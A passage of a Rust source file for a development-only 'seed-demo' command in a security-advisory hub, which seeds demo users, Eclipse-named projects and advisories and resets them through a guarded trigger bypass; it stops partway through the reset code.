//! Demo data for development (`advisoryhub seed-demo`, 90-operations §8),
//! refused with `APP_ENV=production`. Four phases, each in a transaction of
//! its own, each printing one summary:
//!
//! 1. with `--reset`: the demo advisories and everything hanging off them are
//!    deleted through a dev-only trigger bypass ([`reset`]);
//! 2. the accounts of the development identity provider
//!    (`bin/idp/users.json`), so that each demo user signs in to an account
//!    that already exists ([`seed_users`]), with their IdP groups when they
//!    have no group yet;
//! 3. the demo projects and their security teams, named like the IdP's
//!    groups ([`seed_projects`]);
//! 4. a spread of advisories in every state ([`seed_advisories`]), created
//!    and edited through the advisory service, then put into their states
//!    with SQL (the lifecycle services come later); skipped when they are
//!    already there.
//!
//! Users are upserted by case-insensitive e-mail with the `sub` the IdP
//! issues (the user's `id`) as their OIDC subject. A user the file marks
//! `"banned": true` is banned through the ordinary ban service (INV-AUTH-8).
//! Running it again changes nothing that is already in place.

use std::collections::HashMap;
use std::fmt;
use std::io::Write;

use serde::Deserialize;
use serde_json::{Value, json};
use sqlx::{Connection, PgConnection};

use crate::access::permissions::Actor;
use crate::access::users::{self, BanChange};
use crate::advisories::content::Payload;
use crate::advisories::id::OsEntropy;
use crate::advisories::projects::UNSORTED;
use crate::advisories::service::{self, Ctx, Edit, NewAdvisory, ServiceError};
use crate::advisories::{projects, repo};
use crate::audit::catalogue::Action;
use crate::audit::redact::Redactor;
use crate::audit::{self, Entry};
use crate::db::{self, Principal};

/// The reason recorded on demo bans.
pub const BAN_REASON: &str = "Demo: a banned account";

/// One entry of the IdP's users file; other fields (password, role) are the
/// IdP's business and ignored here.
#[derive(Clone, Debug, Deserialize)]
pub struct DemoUser {
    /// The IdP's `sub` for this user.
    pub id: String,
    pub email: String,
    #[serde(default)]
    pub name: String,
    #[serde(default)]
    pub given_name: String,
    #[serde(default)]
    pub family_name: String,
    /// The group claim the IdP issues, in SPN form (`name@domain`).
    #[serde(default)]
    pub groups: Vec<String>,
    /// Whether the app should hold this account banned.
    #[serde(default)]
    pub banned: bool,
}

/// What happened to one user.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Seeded {
    Created,
    Updated,
}

/// The outcome for one user, in file order.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct SeededUser {
    pub email: String,
    pub id: i64,
    pub outcome: Seeded,
    /// The ban was written by this run (false when already banned or not to be banned).
    pub newly_banned: bool,
    /// The group names written to the mirror by this run (empty when the
    /// user already had groups, has none in the file, or is banned).
    pub groups_written: Vec<String>,
}

/// A seeding failure.
#[derive(Debug, thiserror::Error)]
pub enum SeedError {
    #[error("users file: {0}")]
    File(String),
    #[error("{0}")]
    Refused(String),
    #[error("demo advisory {summary:?}: {message}")]
    Advisory { summary: String, message: String },
    #[error("writing the report: {0}")]
    Output(#[from] std::io::Error),
    #[error("database: {0}")]
    Database(#[from] sqlx::Error),
}

impl From<audit::ledger::RecordError> for SeedError {
    fn from(e: audit::ledger::RecordError) -> Self {
        SeedError::Database(e.into())
    }
}

/// Parses the IdP's users file (a JSON array of users) and checks what the
/// `app_user` columns require.
pub fn parse_users(json: &str) -> Result<Vec<DemoUser>, SeedError> {
    let users: Vec<DemoUser> = serde_json::from_str(json)
        .map_err(|e| SeedError::File(format!("expected a JSON array of users: {e}")))?;
    for u in &users {
        let too_long = |value: &str, max: usize| value.chars().count() > max;
        if u.id.trim().is_empty() || too_long(&u.id, 255) {
            return Err(SeedError::File(format!(
                "user {:?}: \"id\" must be 1 to 255 characters",
                u.email
            )));
        }
        if !u.email.contains('@') || too_long(&u.email, 254) {
            return Err(SeedError::File(format!(
                "user {:?}: \"email\" must be an address of at most 254 characters",
                u.id
            )));
        }
        if too_long(&u.name, 200) || too_long(&u.given_name, 150) || too_long(&u.family_name, 150) {
            return Err(SeedError::File(format!(
                "user {:?}: a name is too long",
                u.id
            )));
        }
    }
    Ok(users)
}

// ---------------------------------------------------------------------------
// The whole command

/// What the command was asked to do.
#[derive(Clone, Copy, Debug)]
pub struct Options<'a> {
    /// `--reset`: delete the demo advisories before seeding.
    pub reset: bool,
    /// Whether `APP_ENV` is production; the command refuses to run then.
    pub production: bool,
    /// `OIDC_ADMIN_GROUP`.
    pub admin_group: &'a str,
    pub redactor: &'a Redactor,
    /// How the users file is named in the report.
    pub users_file: &'a str,
}

/// Runs every phase in order, writing each phase's report to `out` as soon
/// as its transaction has committed.
pub async fn run(
    conn: &mut PgConnection,
    users: &[DemoUser],
    options: &Options<'_>,
    out: &mut impl Write,
) -> Result<(), SeedError> {
    if options.production {
        return Err(SeedError::Refused(
            "seed-demo is for development and refused with APP_ENV=production".into(),
        ));
    }
    if options.reset {
        let deleted = reset(conn).await?;
        writeln!(out, "{deleted}")?;
    }
    let seeded = seed_users(conn, users).await?;
    write_users(out, &seeded, options.users_file)?;
    let projects = seed_projects(conn).await?;
    writeln!(out, "{projects}")?;
    let advisories = seed_advisories(conn, options.admin_group, options.redactor).await?;
    writeln!(out, "{advisories}")?;
    Ok(())
}

fn write_users(
    out: &mut impl Write,
    seeded: &[SeededUser],
    users_file: &str,
) -> Result<(), std::io::Error> {
    let mut created = 0;
    for user in seeded {
        let verb = match user.outcome {
            Seeded::Created => {
                created += 1;
                "created"
            }
            Seeded::Updated => "updated",
        };
        writeln!(out, "{verb} {}", user.email)?;
        if user.newly_banned {
            writeln!(out, "banned {}", user.email)?;
        }
        if !user.groups_written.is_empty() {
            writeln!(
                out,
                "groups of {}: {}",
                user.email,
                user.groups_written.join(", ")
            )?;
        }
    }
    writeln!(
        out,
        "{} demo user(s) from {users_file}: {created} created, {} updated, {} banned now, \
         {} given their IdP groups",
        seeded.len(),
        seeded.len() - created,
        seeded.iter().filter(|u| u.newly_banned).count(),
        seeded
            .iter()
            .filter(|u| !u.groups_written.is_empty())
            .count(),
    )
}

// ---------------------------------------------------------------------------
// Users

/// Upserts `users` into `app_user`, bans those marked banned and gives the
/// others their IdP groups when they have none yet, in one transaction (a
/// savepoint when `conn` is already in one).
#[tracing::instrument(name = "db.demo.seed_users", skip_all, fields(users = users.len()))]
pub async fn seed_users(
    conn: &mut PgConnection,
    users: &[DemoUser],
) -> Result<Vec<SeededUser>, SeedError> {
    let mut tx = conn.begin().await?;
    let mut out = Vec::with_capacity(users.len());
    for u in users {
        let email = u.email.trim();
        let row = sqlx::query!(
            r#"INSERT INTO app_user (email, display_name, first_name, last_name, oidc_subject)
               VALUES ($1, $2, $3, $4, $5)
               ON CONFLICT ((lower(email))) DO UPDATE SET
                 email = EXCLUDED.email,
                 display_name = EXCLUDED.display_name,
                 first_name = EXCLUDED.first_name,
                 last_name = EXCLUDED.last_name,
                 oidc_subject = EXCLUDED.oidc_subject
               RETURNING id, (xmax = 0) AS "inserted!""#,
            email,
            u.name,
            u.given_name,
            u.family_name,
            u.id
        )
        .fetch_one(&mut *tx)
        .await?;
        let newly_banned =
            u.banned && users::ban(&mut tx, row.id, None, BAN_REASON).await? == BanChange::Changed;
        let groups_written = if u.banned {
            Vec::new()
        } else {
            seed_groups(&mut tx, row.id, &u.groups).await?
        };
        out.push(SeededUser {
            email: email.to_owned(),
            id: row.id,
            outcome: if row.inserted {
                Seeded::Created
            } else {
                Seeded::Updated
            },
            newly_banned,
            groups_written,
        });
    }
    tx.commit().await?;
    Ok(out)
}

/// Writes the user's IdP groups to the mirror when they have no group yet;
/// returns the names written.
///
/// `user_group` is otherwise written by sign-in only (INV-OIDC-1), which
/// replaces it with the ID token's groups every time. The demo advisories are
/// created as bob, carol and alice before anyone has signed in, and the
/// permission checks of the advisory service read the team memberships from
/// the mirror, so the seed writes what the IdP will issue (the same bare
/// names sign-in derives from the SPN-form claim). A user who already has
/// groups is left alone: those came from a real sign-in, and the next sign-in
/// mirrors the IdP again in any case.
async fn seed_groups(
    conn: &mut PgConnection,
    user_id: i64,
    claim: &[String],
) -> Result<Vec<String>, sqlx::Error> {
    let names = users::mirror_group_names(Some(&json!(claim)));
    if names.is_empty() {
        return Ok(names);
    }
    let has_groups = sqlx::query_scalar!(
        r#"SELECT EXISTS (SELECT 1 FROM user_group WHERE user_id = $1) AS "exists!""#,
        user_id
    )
    .fetch_one(&mut *conn)
    .await?;
    if has_groups {
        return Ok(Vec::new());
    }
    sqlx::query!(
        "INSERT INTO oidc_group (name) SELECT unnest($1::text[]) ON CONFLICT (name) DO NOTHING",
        &names
    )
    .execute(&mut *conn)
    .await?;
    sqlx::query!(
        "INSERT INTO user_group (user_id, group_id)
         SELECT $1, id FROM oidc_group WHERE name = ANY($2::text[])
         ON CONFLICT DO NOTHING",
        user_id,
        &names
    )
    .execute(&mut *conn)
    .await?;
    Ok(names)
}

// ---------------------------------------------------------------------------
// Projects

/// A demo project.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct DemoProject {
    pub slug: &'static str,
    pub name: &'static str,
    /// The security team's group, as the development IdP names it.
    pub team: &'static str,
    pub is_mature_publisher: bool,
}

/// The demo projects: bob is on Theia's team, carol on Jetty's, nobody on
/// Dash's. `unsorted` exists from the migrations.
pub const PROJECTS: [DemoProject; 3] = [
    DemoProject {
        slug: "ecd.theia",
        name: "Eclipse Theia",
        team: "theia-security",
        is_mature_publisher: false,
    },
    DemoProject {
        slug: "rt.jetty",
        name: "Eclipse Jetty",
        team: "jetty-security",
        is_mature_publisher: true,
    },
    DemoProject {
        slug: "technology.dash",
        name: "Eclipse Dash",
        team: "dash-security",
        is_mature_publisher: false,
    },
];

/// What [`seed_projects`] did.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct SeededProjects {
    pub created: usize,
    pub updated: usize,
}

impl fmt::Display for SeededProjects {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let slugs: Vec<&str> = PROJECTS.iter().map(|p| p.slug).collect();
        write!(
            f,
            "{} demo project(s) ({}): {} created, {} updated",
            PROJECTS.len(),
            slugs.join(", "),
            self.created,
            self.updated
        )
    }
}

/// Creates the demo projects, or puts back their name, team and maturity.
#[tracing::instrument(name = "db.demo.seed_projects", skip_all)]
pub async fn seed_projects(conn: &mut PgConnection) -> Result<SeededProjects, SeedError> {
    let mut tx = conn.begin().await?;
    let mut created = 0;
    for p in &PROJECTS {
        if projects::by_slug(&mut tx, p.slug).await?.is_none() {
            created += 1;
        }
        projects::upsert(&mut tx, p.slug, p.name, p.team, p.is_mature_publisher).await?;
    }
    tx.commit().await?;
    Ok(SeededProjects {
        created,
        updated: PROJECTS.len() - created,
    })
}

// ---------------------------------------------------------------------------
// Advisories

/// Where the seed puts a demo advisory after creating (and editing) it as a
/// draft through the service.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum DemoState {
    Draft,
    /// A draft its author submitted for review.
    SubmittedForReview,
    Published,
    /// Dismissed from draft, with this reason.
    Dismissed(&'static str),
    /// A report from the public intake form, with its sidecar; on `unsorted`
    /// it is flagged for admin routing with `routing_note` (INV-INTAKE-4).
    Triage {
        reporter: &'static str,
        ip: &'static str,
        user_agent: &'static str,
        routing_note: &'static str,
    },
}

impl DemoState {
    /// The `advisory.state` it ends in.
    pub fn state(self) -> &'static str {
        match self {
            DemoState::Draft | DemoState::SubmittedForReview => "draft",
            DemoState::Published => "published",
            DemoState::Dismissed(_) => "dismissed",
            DemoState::Triage { .. } => "triage",
        }
    }
}

/// One demo advisory.
#[derive(Clone, Debug)]
pub struct DemoAdvisory {
    /// The project's slug.
    pub project: &'static str,
    /// Who creates it: an IdP `sub` (`bob`, `carol`, `alice`).
    pub author: &'static str,
    /// Version 1: an advisory content object (10-domain-model §4).
    pub content: Value,
    /// Grants given right after creation: (IdP `sub`, `viewer` | `collaborator`).
    pub grants: Vec<(&'static str, &'static str)>,
    /// Later versions: the editor's `sub` and the content keys they replaced.
    pub edits: Vec<(&'static str, Value)>,
    pub state: DemoState,
}

impl DemoAdvisory {
    /// The content of the latest version: `content` with every edit applied.
    pub fn final_content(&self) -> Value {
        let mut content = self.content.clone();
        for (_, changes) in &self.edits {
            merge(&mut content, changes);
        }
        content
    }

    /// The summary it ends with; the seed recognises its advisories by it.
    pub fn title(&self) -> String {
        self.final_content()["summary"]
            .as_str()
            .unwrap_or_default()
            .to_owned()
    }
}

/// Replaces the top-level keys of `content` that `changes` holds.
fn merge(content: &mut Value, changes: &Value) {
    if let (Value::Object(content), Value::Object(changes)) = (content, changes) {
        for (key, value) in changes {
            content.insert(key.clone(), value.clone());
        }
    }
}

/// Every demo advisory, in creation order.
pub fn advisories() -> Vec<DemoAdvisory> {
    vec![
        theia_markdown_xss(),
        theia_webview_origin(),
        theia_download_traversal(),
        theia_preference_pollution(),
        theia_terminal_links(),
        theia_task_injection(),
        theia_report_mini_browser(),
        jetty_hpack_memory(),
        jetty_chunk_smuggling(),
        jetty_form_auth_bypass(),
        jetty_thread_limit(),
        jetty_gzip_inflation(),
        jetty_websocket_origin(),
        unsorted_report(),
    ]
}

/// The summaries of the demo advisories.
pub fn titles() -> Vec<String> {
    advisories().iter().map(DemoAdvisory::title).collect()
}

/// What [`seed_advisories`] did.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum SeededAdvisories {
    /// The demo advisories were there already (this many of them).
    AlreadyPresent(usize),
    Created {
        /// `(state, count)` in the order draft, published, dismissed, triage.
        states: Vec<(&'static str, usize)>,
        submitted_for_review: usize,
        versions: usize,
    },
}

impl fmt::Display for SeededAdvisories {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            SeededAdvisories::AlreadyPresent(n) => write!(
                f,
                "{n} demo advisories already present, none created (seed-demo --reset \
                 re-creates them)"
            ),
            SeededAdvisories::Created {
                states,
                submitted_for_review,
                versions,
            } => {
                let total: usize = states.iter().map(|(_, n)| n).sum();
                let parts: Vec<String> = states
                    .iter()
                    .map(|(state, n)| {
                        if *state == "draft" {
                            format!("{n} draft ({submitted_for_review} submitted for review)")
                        } else {
                            format!("{n} {state}")
                        }
                    })
                    .collect();
                write!(
                    f,
                    "{total} demo advisories created with {versions} versions: {}",
                    parts.join(", ")
                )
            }
        }
    }
}

/// The slugs whose advisories are all demo data, for `--reset`; on
/// `unsorted` only the advisories with a demo title are.
fn demo_slugs() -> Vec<String> {
    PROJECTS.iter().map(|p| p.slug.to_owned()).collect()
}

/// Creates the demo advisories unless they are there already (any advisory
/// of a demo project or `unsorted` with a demo title), in one transaction.
#[tracing::instrument(name = "db.demo.seed_advisories", skip_all)]
pub async fn seed_advisories(
    conn: &mut PgConnection,
    admin_group: &str,
    redactor: &Redactor,
) -> Result<SeededAdvisories, SeedError> {
    let demo = advisories();
    let mut tx = conn.begin().await?;
    // The trusted system principal of operator commands (90-operations §8).
    db::set_principal(&mut tx, Principal::System).await?;
    // Two concurrent runs would both find nothing and both create.
    sqlx::query!("SELECT pg_advisory_xact_lock(hashtext('advisoryhub.seed-demo')) AS locked")
        .fetch_one(&mut *tx)
        .await?;
    let mut slugs = demo_slugs();
    slugs.push(UNSORTED.to_owned());
    let present = sqlx::query_scalar!(
        r#"SELECT count(*) AS "n!" FROM advisory a JOIN project p ON p.id = a.project_id
           WHERE p.slug = ANY($1) AND a.summary = ANY($2)"#,
        &slugs,
        &titles()
    )
    .fetch_one(&mut *tx)
    .await?;
    if present > 0 {
        return Ok(SeededAdvisories::AlreadyPresent(
            usize::try_from(present).unwrap_or_default(),
        ));
    }

    let mut seeder = Seeder {
        admin_group,
        redactor,
        actors: HashMap::new(),
    };
    let mut versions = 0;
    for advisory in &demo {
        versions += seeder
            .seed(&mut tx, advisory)
            .await
            .map_err(|e| e.about(advisory))?;
    }
    tx.commit().await?;

    let count = |state: &str| demo.iter().filter(|a| a.state.state() == state).count();
    Ok(SeededAdvisories::Created {
        states: ["draft", "published", "dismissed", "triage"]
            .into_iter()
            .map(|s| (s, count(s)))
            .collect(),
        submitted_for_review: demo
            .iter()
            .filter(|a| a.state == DemoState::SubmittedForReview)
            .count(),
        versions,
    })
}

/// A failure while seeding one advisory.
enum StepError {
    Service(ServiceError),
    Other(SeedError),
}

impl From<sqlx::Error> for StepError {
    fn from(e: sqlx::Error) -> Self {
        StepError::Other(e.into())
    }
}

impl From<audit::ledger::RecordError> for StepError {
    fn from(e: audit::ledger::RecordError) -> Self {
        StepError::Other(e.into())
    }
}

impl From<ServiceError> for StepError {
    fn from(e: ServiceError) -> Self {
        StepError::Service(e)
    }
}

impl StepError {
    fn about(self, advisory: &DemoAdvisory) -> SeedError {
        let summary = advisory.title();
        match self {
            StepError::Service(ServiceError::Invalid(errors)) => SeedError::Advisory {
                summary,
                message: format!("invalid content: {errors}"),
            },
            StepError::Service(e) => SeedError::Advisory {
                summary,
                message: e.to_string(),
            },
            StepError::Other(SeedError::Advisory { message, .. }) => {
                SeedError::Advisory { summary, message }
            }
            StepError::Other(e) => e,
        }
    }

    fn message(message: String) -> StepError {
        StepError::Other(SeedError::Advisory {
            summary: String::new(),
            message,
        })
    }
}

struct Seeder<'a> {
    admin_group: &'a str,
    redactor: &'a Redactor,
    /// Actors by IdP `sub`.
    actors: HashMap<&'static str, Actor>,
}

impl Seeder<'_> {
    /// The demo user with this `sub` as the permission checks see them.
    async fn actor(
        &mut self,
        conn: &mut PgConnection,
        sub: &'static str,
    ) -> Result<Actor, StepError> {
        if let Some(actor) = self.actors.get(sub) {
            return Ok(actor.clone());
        }
        let id = sqlx::query_scalar!(
            "SELECT id FROM app_user WHERE oidc_subject = $1 ORDER BY id LIMIT 1",
            sub
        )
        .fetch_optional(&mut *conn)
        .await?
        .ok_or_else(|| {
            StepError::message(format!(
                "the demo user {sub:?} is missing from the users file"
            ))
        })?;
        let actor = repo::load_actor(conn, id, self.admin_group)
            .await?
            .ok_or_else(|| StepError::message(format!("the demo user {sub:?} is banned")))?;
        self.actors.insert(sub, actor.clone());
        Ok(actor)
    }

    fn ctx<'b>(&'b self, actor: &'b Actor) -> Ctx<'b> {
        Ctx {
            actor,
            origin: None,
            redactor: self.redactor,
        }
    }

    /// Creates, grants, edits and places one advisory; returns its number of
    /// versions.
    async fn seed(
        &mut self,
        conn: &mut PgConnection,
        demo: &DemoAdvisory,
    ) -> Result<usize, StepError> {
        let project = projects::by_slug(conn, demo.project)
            .await?
            .ok_or_else(|| StepError::message(format!("no project {}", demo.project)))?;
        let author = self.actor(conn, demo.author).await?;
        let content = Payload::from_json(&demo.content)
            .map_err(|e| StepError::Service(ServiceError::Invalid(e)))?;
        let public_id = service::create(
            conn,
            self.ctx(&author),
            &NewAdvisory {
                project_id: Some(project.id),
                content,
            },
            &mut OsEntropy,
        )
        .await?;
        let id = sqlx::query_scalar!("SELECT id FROM advisory WHERE advisory_id = $1", public_id)
            .fetch_one(&mut *conn)
            .await?;

        for (sub, permission) in &demo.grants {
            let grantee = self.actor(conn, sub).await?;
            self.grant(conn, id, &author, grantee.user_id, permission)
                .await?;
        }

        for (sub, body, internal) in comments_on(&demo.title()) {
            let writer = self.actor(conn, sub).await?;
            crate::comments::service::add(conn, self.ctx(&writer), &public_id, body, *internal)
                .await?;
        }

        let mut content = demo.content.clone();
        let mut version = 1;
        for (sub, changes) in &demo.edits {
            merge(&mut content, changes);
            let editor = self.actor(conn, sub).await?;
            let edited = service::edit(
                conn,
                self.ctx(&editor),
                &public_id,
                &Edit {
                    project_id: None,
                    content: Payload::from_json(&content)
                        .map_err(|e| StepError::Service(ServiceError::Invalid(e)))?,
                    base_version: version,
                },
            )
            .await?;
            version = edited.version.ok_or_else(|| {
                StepError::message("an edit of the demo data changed nothing".into())
            })?;
        }

        self.place(conn, id, &author, version, demo).await?;
        Ok(usize::try_from(version).unwrap_or_default())
    }

    async fn grant(
        &self,
        conn: &mut PgConnection,
        advisory: i64,
        by: &Actor,
        user_id: i64,
        permission: &str,
    ) -> Result<(), StepError> {
        sqlx::query!(
            "INSERT INTO access_grant (advisory_id, principal_type, principal_id, permission, created_by)
             VALUES ($1, 'user', $2, $3, $4)",
            advisory,
            user_id,
            permission,
            by.user_id
        )
        .execute(&mut *conn)
        .await?;
        self.record(
            conn,
            Entry::new(Action::AccessGranted, Some(by.user_id), None)
                .advisory(advisory)
                .values(
                    None,
                    Some(json!({"principal_type": "user", "principal_id": user_id, "permission": permission})),
                ),
        )
        .await
    }

    async fn record(&self, conn: &mut PgConnection, entry: Entry<'_>) -> Result<(), StepError> {
        let mut entry = entry;
        if let Value::Object(map) = &mut entry.metadata {
            map.insert("via".into(), json!("seed-demo"));
        }
        audit::record(conn, self.redactor, entry).await?;
        Ok(())
    }

    /// Puts the draft into its demo state with SQL, and writes the ledger
    /// rows the lifecycle service would.
    async fn place(
        &mut self,
        conn: &mut PgConnection,
        id: i64,
        author: &Actor,
        version: i32,
        demo: &DemoAdvisory,
    ) -> Result<(), StepError> {
        let by = Some(author.user_id);
        let narrated = |from: &str, to: &str| {
            Entry::new(Action::AdvisoryStateChanged, by, None)
                .advisory(id)
                .values(Some(json!(from)), Some(json!(to)))
                .metadata(json!({"narrated": true}))
        };
        match demo.state {
            DemoState::Draft => {}
            DemoState::SubmittedForReview => {
                sqlx::query!(
                    "UPDATE advisory SET review_status = 'submitted', submitted_for_review_at = now(),
                         submitted_for_review_by = $2
                     WHERE id = $1",
                    id,
                    author.user_id
                )
                .execute(&mut *conn)
                .await?;
                // INV-REVIEW-2: the open review pins the version under review.
                sqlx::query!(
                    "INSERT INTO review_task (advisory_id, version_id, submitted_by)
                     SELECT $1, id, $2 FROM advisory_version WHERE advisory_id = $1 AND version = $3",
                    id,
                    author.user_id,
                    version
                )
                .execute(&mut *conn)
                .await?;
                let entry = Entry::new(Action::AdvisorySubmittedForReview, by, None)
                    .advisory(id)
                    .values(Some(json!("none")), Some(json!({"version": version})));
                self.record(conn, entry).await?;
            }
            DemoState::Published => {
                sqlx::query!(
                    "UPDATE advisory SET state = 'published', published_at = now() WHERE id = $1",
                    id
                )
                .execute(&mut *conn)
                .await?;
                let entry = Entry::new(Action::AdvisoryPublished, by, None)
                    .advisory(id)
                    .values(Some(json!("draft")), Some(json!({"version": version})));
                self.record(conn, entry).await?;
                self.record(conn, narrated("draft", "published")).await?;
            }
            DemoState::Dismissed(reason) => {
                sqlx::query!(
                    "UPDATE advisory SET state = 'dismissed', dismissed_reason = $2,
                         dismissed_from_state = 'draft'
                     WHERE id = $1",
                    id,
                    reason
                )
                .execute(&mut *conn)
                .await?;
                let entry = Entry::new(Action::AdvisoryDismissed, by, None)
                    .advisory(id)
                    .values(Some(json!("draft")), Some(json!({"reason": reason})));
                self.record(conn, entry).await?;
                self.record(conn, narrated("draft", "dismissed")).await?;
            }
            DemoState::Triage {
                reporter,
                ip,
                user_agent,
                routing_note,
            } => {
                self.triage(conn, id, demo, reporter, ip, user_agent, routing_note)
                    .await?;
            }
        }
        Ok(())
    }

    /// A report from the intake form: the advisory in `triage` and its
    /// sidecar, flagged for routing on `unsorted` (INV-INTAKE-4, checked at
    /// commit).
    #[expect(clippy::too_many_arguments, reason = "the fields of the sidecar")]
    async fn triage(
        &mut self,
        conn: &mut PgConnection,
        id: i64,
        demo: &DemoAdvisory,
        reporter: &str,
        ip: &str,
        user_agent: &str,
        routing_note: &str,
    ) -> Result<(), StepError> {
        let unsorted = demo.project == UNSORTED;
        let flagger = if unsorted {
            Some(self.actor(conn, "alice").await?.user_id)
        } else {
            None
        };
        sqlx::query!("UPDATE advisory SET state = 'triage' WHERE id = $1", id)
            .execute(&mut *conn)
            .await?;
        sqlx::query!(
            "INSERT INTO advisory_intake (advisory_id, reporter_display_name, submitted_ip,
                 submitted_user_agent, needs_admin_routing, admin_routing_note,
                 flagged_for_routing_at, flagged_for_routing_by)
             VALUES ($1, $2, CAST($3::text AS inet), $4, $5, $6,
                 CASE WHEN $5 THEN now() END, $7)",
            id,
            reporter,
            ip,
            user_agent,
            unsorted,
            if unsorted { routing_note } else { "" },
            flagger
        )
        .execute(&mut *conn)
        .await?;
        let entry = Entry::new(Action::AdvisoryTriageSubmitted, None, None)
            .advisory(id)
            .metadata(json!({
                "project_slug": demo.project,
                "authenticated": false,
                "unsorted": unsorted,
            }));
        self.record(conn, entry).await?;
        if unsorted {
            let entry = Entry::new(Action::AdvisoryFlaggedForRouting, flagger, None)
                .advisory(id)
                .values(None, Some(json!({"note": routing_note})));
            self.record(conn, entry).await?;
        }
        Ok(())
    }
}

// ---------------------------------------------------------------------------
// --reset

/// What [`reset`] deleted.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Deleted {
    pub advisories: u64,
    pub versions: u64,
    pub ledger_entries: u64,
    pub access_log_entries: u64,
    pub visits: u64,
    pub grants: u64,
    pub intake_reports: u64,
}

impl fmt::Display for Deleted {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "reset: deleted {} demo advisories with {} versions, {} ledger entries, {} access-log \
             entries, {} visit markers, {} grants and {} intake reports",
            self.advisories,
            self.versions,
            self.ledger_entries,
            self.access_log_entries,
            self.visits,
            self.grants,
            self.intake_reports
        )
    }
}

/// The tables whose rows hang off an advisory, which [`reset`] deletes.
const KNOWN_DEPENDENTS: [&str; 15] = [
    "advisory_version",
    "advisory_intake",
    "advisory_visit",
    "access_grant",
    "audit_log_entry",
    "advisory_search",
    "advisory_comment",
    "notification",
    "pending_invitation",
    "advisory_notification_override",
    "review_task",
    "cve_request_task",
    "orphan_cve",
    "orphan_cve_reassignment_task",
    "publication_task",
];

/// Deletes the demo advisories (every advisory of a demo project, and those
/// on `unsorted` with a demo title) and every row hanging off them, in one
/// transaction.
///
/// Advisories are never deleted (INV-IMPL-1) and versions and the ledger are
/// append-only, all enforced by triggers; this dev-only bypass turns every
/// trigger of the transaction off with `SET LOCAL session_replication_role =
/// replica`, which only a superuser may set. That also turns off the
/// foreign-key checks, so the dependents are deleted explicitly, and a table
/// this code does not know that still references a demo advisory stops the
/// reset rather than be left dangling.
#[tracing::instrument(name = "db.demo.reset", skip_all)]
pub async fn reset(conn: &mut PgConnection) -> Result<Deleted, SeedError> {
    let mut tx = conn.begin().await?;
    db::set_principal(&mut tx, Principal::System).await?;
    if let Err(e) = sqlx::query("SET LOCAL session_replication_role = replica")
        .execute(&mut *tx)
        .await
    {
        let denied = e
            .as_database_error()
            .and_then(sqlx::error::DatabaseError::code)
            .is_some_and(|code| code == "42501");
        return Err(if denied {
            SeedError::Refused(format!(
                "--reset needs a superuser connection: it bypasses the triggers that protect \
                 advisories, versions and the ledger ({e})"
            ))
        } else {
            SeedError::Database(e)
        });
    }
    let ids = sqlx::query_scalar!(
        "SELECT a.id FROM advisory a JOIN project p ON p.id = a.project_id
         WHERE p.slug = ANY($1) OR (p.slug = $2 AND a.summary = ANY($3))",
        &demo_slugs(),
        UNSORTED,
        &titles()
    )
    .fetch_all(&mut *tx)
    .await?;
    refuse_unknown_dependents(&mut tx, &ids).await?;

    let mut deleted = Deleted {
        ledger_entries: sqlx::query!(
            "DELETE FROM audit_log_entry WHERE advisory_id = ANY($1)",
            &ids
        )
        .execute(&mut *tx)
        .await?
        .rows_affected(),
        access_log_entries: sqlx::query!(
            "DELETE FROM access_log_entry WHERE advisory_id = ANY($1)",
            &ids
        )
        .execute(&mut *tx)
        .await?
        .rows_affected(),
        ..Deleted::default()
    };
    deleted.visits = sqlx::query!(
        "DELETE FROM advisory_visit WHERE advisory_id = ANY($1)",
        &ids
    )
    .execute(&mut *tx)
    .await?
    .rows_affected();
    deleted.grants = sqlx::query!("DELETE FROM access_grant WHERE advisory_id = ANY($1)", &ids)
        .execute(&mut *tx)
        .await?
        .rows_affected();
    deleted.intake_reports = sqlx::query!(
        "DELETE FROM advisory_intake WHERE advisory_id = ANY($1)",
        &ids
    )
    .execute(&mut *tx)
    .await?
    .rows_affected();
    deleted.versions = sqlx::query!(
        "DELETE FROM advisory_version WHERE advisory_id = ANY($1)",
        &ids
    )
    .execute(&mut *tx)
    .await?
    .rows_affected();
    delete_uncounted_dependents(&mut tx, &ids).await?;
    deleted.advisories = sqlx::query!("DELETE FROM advisory WHERE id = ANY($1)", &ids)
        .execute(&mut *tx)
        .await?
        .rows_affected();
    // The tally follows inserts and updates only (advisories are never
    // deleted elsewhere): count it again.
    sqlx::query!("DELETE FROM advisory_tally")
        .execute(&mut *tx)
        .await?;
    sqlx::query!(
        "INSERT INTO advisory_tally (project_id, state, severity_level, review_status, kind, n)
         SELECT project_id, state, severity_level, review_status, kind, count(*)
         FROM advisory GROUP BY 1, 2, 3, 4, 5"
    )
    .execute(&mut *tx)
    .await?;
    tx.commit().await?;
    Ok(deleted)
}

/// What hangs off the demo advisories besides what [`Deleted`] counts:
/// comments with their versions, notifications, invitations, overrides, the
/// search text and the workflow tasks (orphaned CVEs included).
async fn delete_uncounted_dependents(
    conn: &mut PgConnection,
    ids: &[i64],
) -> Result<(), SeedError> {
    sqlx::query!(
        "DELETE FROM comment_version WHERE comment_id IN
           (SELECT id FROM advisory_comment WHERE advisory_id = ANY($1))",
        ids
    )
    .execute(&mut *conn)
    .await?;
    for statement in [
        "DELETE FROM advisory_comment WHERE advisory_id = ANY($1)",
        "DELETE FROM notification WHERE advisory_id = ANY($1)",
        "DELETE FROM pending_invitation WHERE advisory_id = ANY($1)",
        "DELETE FROM advisory_notification_override WHERE advisory_id = ANY($1)",
        "DELETE FROM advisory_search WHERE advisory_id = ANY($1)",
        "DELETE FROM review_task WHERE advisory_id = ANY($1)",
        "DELETE FROM cve_request_task WHERE advisory_id = ANY($1)",
        "DELETE FROM publication_task WHERE advisory_id = ANY($1)",
        "DELETE FROM orphan_cve_reassignment_task WHERE advisory_id = ANY($1)
            OR orphan_cve_id IN (SELECT id FROM orphan_cve WHERE previous_advisory_id = ANY($1))",
        "DELETE FROM orphan_cve WHERE previous_advisory_id = ANY($1)",
    ] {
